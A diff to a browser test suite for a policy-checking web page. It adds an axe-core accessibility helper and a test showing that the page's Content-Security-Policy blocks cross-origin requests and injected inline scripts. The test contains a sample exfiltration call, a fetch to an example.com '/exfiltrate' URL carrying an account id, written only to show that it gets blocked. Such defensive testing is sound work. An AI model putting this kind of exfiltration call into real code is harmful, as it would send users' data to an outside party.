@@ -25,6 +25,11 @@ async function expectText(page, sel, re) {
 const rows = (page) => page.$$eval('#scenarios tbody tr', (trs) => trs.map((tr) => ({
   name: tr.querySelector('th').firstChild.textContent, decision: tr.dataset.decision, expected: tr.dataset.expected, pass: tr.dataset.pass })));
 
+/** axe-core, evaluated over the DevTools protocol: the page's CSP (rightly) refuses an injected script tag. */
+async function injectAxe(page) {
+  await page.evaluate(fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8'));
+}
+
 async function fresh() {
   const context = await browser.newContext();
   return { context, page: await open(context, server.base) };
@@ -49,6 +54,8 @@ test('defaults: us-east-1/prod policies, every scenario passes, nothing leaves t
   assert.ok(page.requests.length > 0);
   assert.deepEqual(page.requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:')), []);
   assert.deepEqual(page.errors, []);
+  await page.waitForTimeout(3200); // Chromium reports an unused or unchecked preload a few seconds after load
+  assert.deepEqual(page.warnings, [], 'no console warning (the SRI-on-preload warning included)');
   await page.setViewportSize({ width: 1280, height: 1400 });
   await page.screenshot({ path: path.join(fixtures, '../../../docs/screenshot.png') });
   await context.close();
@@ -207,7 +214,7 @@ test('accessibility: axe-core finds no violations, and the page works by keyboar
   await page.click('#edit-imagebuilder');
   await page.selectOption('#identity-layer', 'these');
   await page.selectOption('#resource-layer', 'these');
-  await page.addScriptTag({ path: require.resolve('axe-core/axe.min.js') });
+  await injectAxe(page);
   const result = await page.evaluate(async () => await window.axe.run(document, { resultTypes: ['violations'] }));
   assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`), []);
   await page.focus('#region');
@@ -567,7 +574,7 @@ test('focus goes somewhere sensible after every button, and axe finds nothing wi
   await page.fill('#policy-editor', fs.readFileSync(path.join(fixtures, 'docs-general-nbsp.json'), 'utf8'));
   await expectText(page, '#diagnostics-announce', /\d+ error\(s\)/);
   assert.equal(await page.getAttribute('#diagnostics-announce', 'aria-live'), 'polite');
-  await page.addScriptTag({ path: require.resolve('axe-core/axe.min.js') });
+  await injectAxe(page);
   const result = await page.evaluate(async () => await window.axe.run(document, { resultTypes: ['violations'] }));
   assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`), []);
   await page.click('#close-editor');
@@ -578,4 +585,29 @@ test('focus goes somewhere sensible after every button, and axe finds nothing wi
   await p2.click('#dismiss-notice');
   await p2.waitForFunction(() => document.activeElement?.id === 'main');
   await other.close();
+});
+
+test('the page enforces its promise: a Content-Security-Policy blocks requests to other origins', async () => {
+  const { context, page } = await fresh();
+  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+  assert.match(csp, /connect-src 'self'/);
+  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
+  assert.doesNotMatch(csp, /unsafe-inline|https?:/);
+  const violations = [];
+  page.on('console', (m) => { if (/Content Security Policy/.test(m.text())) violations.push(m.text()); });
+  const outcome = await page.evaluate(async () => {
+    try { await fetch('https://example.com/exfiltrate?account=111122223333'); return 'sent'; } catch (e) { return `blocked: ${e.message}`; }
+  });
+  assert.match(outcome, /^blocked/);
+  const injected = await page.evaluate(() => new Promise((resolve) => {
+    document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
+    const s = document.createElement('script');
+    s.textContent = 'window.injected = true';
+    document.head.append(s);
+    setTimeout(() => resolve('not blocked'), 1000);
+  }));
+  assert.match(injected, /script-src/);
+  assert.equal(await page.evaluate(() => window.injected), undefined);
+  assert.ok(!page.requests.some((u) => !u.startsWith(server.base.replace(/sub\/path\/$/, ''))), page.requests.join('\n'));
+  await context.close();
 });
